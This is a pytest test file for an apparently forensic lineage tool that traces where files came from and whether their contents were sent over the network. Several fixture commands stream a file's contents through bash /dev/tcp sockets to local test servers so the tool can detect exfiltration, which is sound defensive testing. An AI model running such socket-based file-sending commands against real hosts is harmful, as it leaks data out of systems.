"""`origin`, `exfil` and `touched` have the answers of the stores that were shipped to the lake."""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path
from typing import Any, cast

from conftest import Machine, command
from hunter import Hunter, server

from backstory_lake import places, printing


def of_lake(lake: Path, *words: str) -> list[dict[str, Any]]:
    """The answer of the package, in this process."""
    ended = command(words[0], "--lake", str(lake), "--json", *words[1:])
    found: list[dict[str, Any]] = json.loads(ended.stdout)
    assert ended.returncode == int(not found), ended.stderr
    return found


def ways(found: list[dict[str, Any]]) -> set[tuple[Any, ...]]:
    """Each address with its run, its bytes and the programs on the way.

    A store joins a process that only renames a file with the command that made the file.
    """
    return {
        (
            *(one[name] for name in ("address", "run", "sent", "received")),
            one["way"][0]["from"],
            *(
                (step["run"], step["command"].split()[0])
                for step in one["way"]
                if not step["command"].startswith("mv ")
            ),
        )
        for one in found
    }


def test_origin_and_exfil_have_the_addresses_bytes_and_ways_of_a_store(
    machine: Machine, lake: Path, hunter: Hunter
) -> None:
    with server() as port, server() as other:
        connect = f"exec 3<>/dev/tcp/127.0.0.1/{port}"
        machine.record("cp in copy; gzip < copy > packed; ln packed second; mv packed third")
        machine.record(f"bash -c '{connect}; cat >&3' < third")
        machine.record(f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{other}; cat >&3' < in")
        machine.record(f"bash -c '{connect}; cat <&3' > got; sort got > report; mv report last")
    machine.ship(lake)
    for question, name, ends in (
        ("exfil", "in", 2),
        ("exfil", "second", 1),
        ("exfil", "last", 0),
        ("origin", "last", 1),
        ("origin", "second", 0),
    ):
        asked = (question, str(machine.directory / name))
        stored = hunter.found(*asked, store=machine.store)
        found = of_lake(lake, *asked)
        assert ways(found) == ways(stored), asked
        assert len(found) == ends, asked


def acts(found: list[dict[str, Any]]) -> list[str]:
    """Each process with what it did, and the names that it gave or took."""
    names = ("run", "pid", "access", "possible", "certainty", "to", "from", "cwd")
    return sorted(json.dumps([one[name] for name in names]) for one in found)


def test_touched_has_the_processes_and_acts_of_a_store(
    machine: Machine, lake: Path, hunter: Hunter
) -> None:
    with server() as port:
        machine.record("cp in copy; cat copy > 'a b'; ln copy second; mv copy third")
        machine.record("rm third second")
        machine.record("test -e in; cat < in | sort > out; touch in; sh -c 'cat in out >> all'")
        machine.record(f"bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat >&3' < in")
    machine.ship(lake)
    files = [str(machine.directory / name) for name in ("in", "copy", "second", "third", "a b")]
    questions = [(name,) for name in [*files, f"tcp:127.0.0.1:{port}", "127.0.0.1"]]
    questions += [(f"127.0.0.1:{port}",), (f"127.0.0.1:0{port}",)]
    for words in [*questions, ("--lookups", files[0]), ("--lookups", files[2])]:
        stored = hunter.found("touched", *words, store=machine.store)
        found = of_lake(lake, "touched", *words)
        assert found and acts(found) == acts(stored), words


#: Makes a file whose path is longer than a call can name.
DEEP = """
import os
for _ in range(20):
    os.mkdir("d" * 250)
    os.chdir("d" * 250)
with open("leaf", "w") as file:
    file.write("text")
open("leaf").read()
"""


def test_names_that_are_long_or_not_utf8_are_found_as_in_a_store(
    machine: Machine, lake: Path, hunter: Hunter
) -> None:
    a, b = "$(printf 'caf\\351')", "$(printf 'b\\376')"
    machine.record(f"cp in {a}; ln {a} {b}; cat {a}")
    # A store also finds a present file by its inode.
    machine.record(f"rm {a} {b}")
    (machine.directory / "deep.py").write_text(DEEP)
    machine.record(f"{sys.executable} deep.py")
    machine.ship(lake)
    odd = [f"{machine.directory}/{name}" for name in ("caf\udce9", "b\udcfe")]
    deep = "/".join([str(machine.directory), *["d" * 250] * 20, "leaf"])
    assert len(deep) > 4096
    acts = ("run", "pid", "access", "certainty")
    for name in [*odd, deep]:
        stored = hunter.found("touched", name, store=machine.store)
        found = of_lake(lake, "touched", name)
        assert found
        for of in (stored, found):
            of.sort(key=lambda one: (one["run"], one["pid"]))
        assert [[one[act] for act in acts] for one in found] == [
            [one[act] for act in acts] for one in stored
        ], name
        for question in ("origin", "exfil"):
            assert of_lake(lake, question, name) == []
        ended = command("lineage", "--lake", str(lake), "--path", name, "--json")
        assert ended.returncode == 0, ended.stderr
    ended = command("touched", "--lake", str(lake), "/none-\udcff")
    assert (ended.returncode, ended.stdout) == (1, "")
    assert "no file /none-\ufffd" in ended.stderr
    ended = command("query", "--lake", str(lake), "SELECT '\udcff'")
    assert ended.returncode == 2 and "not UTF-8" in ended.stderr


def test_addresses_are_read_as_a_store_reads_them() -> None:
    class Quoting:
        """All that a condition needs of an engine."""

        @staticmethod
        def quoted(text: str) -> str:
            return f"'{text}'"

    def names(subject: str) -> list[str] | None:
        condition = places._at_address(cast(Any, Quoting), subject)
        return condition and re.findall(r"'((?:tcp|udp):[^']*)'", condition)

    for subject, host in (
        ("[0:0::1]:80", "[::1]"),
        ("[2001:DB8:0::7]:080", "[2001:db8::7]"),
        ("[::ffff:192.0.2.7]:80", "[::ffff:192.0.2.7]"),
        ("192.0.2.7:80", "192.0.2.7"),
    ):
        assert names(subject) == [f"tcp:{host}:80", f"udp:{host}:80"], subject
    assert names("0:0::1") == ["tcp:[::1]:", "udp:[::1]:"]
    for subject in ("[192.0.2.7]:80", "192.0.2.7:99999", "::1:80000", "fe80::1%eth0", "a:80", "a"):
        assert names(subject) is None, subject


def test_the_text_names_host_run_and_command(machine: Machine, lake: Path, hunter: Hunter) -> None:
    run = machine.record("cp in copy")
    machine.record("cat in > other")
    machine.ship(lake)
    ended = hunter.run("touched", str(machine.directory / "in"), "--lake", str(lake), "-n", "1")
    first, rest = ended.stdout.splitlines()
    assert f"  read, copied to {machine.directory}/other  cat in" in first
    assert rest == "… and 1 before these (-n N shows more)"
    everything = hunter.run("touched", str(machine.directory / "in"), "--lake", str(lake)).stdout
    assert f"  run {run}  read, copied to {machine.directory}/copy  cp in copy" in everything
    ended = hunter.run("exfil", str(machine.directory / "in"), "--lake", str(lake))
    assert ended.returncode == 1 and ended.stdout.endswith("no recorded address\n")


def test_lines_fit_a_screen_and_have_the_time_of_the_connection(
    machine: Machine, lake: Path
) -> None:
    words = " ".join(f"word{at}" for at in range(40))
    with server() as port:
        # The shell reads the file in a later second than it began.
        wait = "printf -v a '%(%s)T'; b=$a; while [ $b = $a ]; do printf -v b '%(%s)T'; done"
        read = "while read x; do echo $x >&3; done < in"
        (machine.directory / "send").write_text(
            f"{wait}\nexec 3<>/dev/tcp/127.0.0.1/{port}\n{read}\n"
        )
        machine.record(f"bash send {words}")
    machine.ship(lake)
    name = str(machine.directory / "in")
    (found,) = of_lake(lake, "exfil", name)
    assert found["started_ns"] < found["time_ns"] <= found["ended_ns"]
    shown = command("exfil", "--lake", str(lake), name).stdout
    assert printing.moment(found["time_ns"]) in shown, shown
    assert printing.moment(found["started_ns"]) not in shown, shown
    for ended in (shown, command("touched", "--lake", str(lake), name).stdout):
        lines = [line for line in ended.splitlines() if "bash send" in line]
        assert lines and all("…" in line and "word39" not in line for line in lines), ended


def test_a_text_is_cut_at_a_column() -> None:
    assert printing.cut("abcdef", 6) == "abcdef" and printing.cut("abcdefg", 6) == "abcde…"
    assert printing.cut("日本語", 4) == "日…" and printing.cut("ab", 0) == ""


def test_what_the_lake_does_not_have_is_an_error(
    machine: Machine, lake: Path, hunter: Hunter
) -> None:
    machine.record("cp in copy")
    machine.ship(lake)
    for words, missing in (
        (("touched", "/none"), "no file /none"),
        (("origin", "/none"), "no file /none"),
        (("touched", "192.0.2.7"), "no connection with 192.0.2.7"),
        (("touched", "unix:{0}'"), "no connection with unix:{0}'"),
    ):
        ended = command(words[0], "--lake", str(lake), words[1])
        assert (ended.returncode, ended.stdout) == (1, "")
        assert missing in ended.stderr
    ended = hunter.run("exfil", "/none", "--lake", str(lake))
    assert ended.returncode == 1 and "no file /none" in ended.stderr
    for name in ("exfil", "touched"):
        assert hunter.run(name, "in", "--run", "x", "--lake", str(lake)).returncode == 2
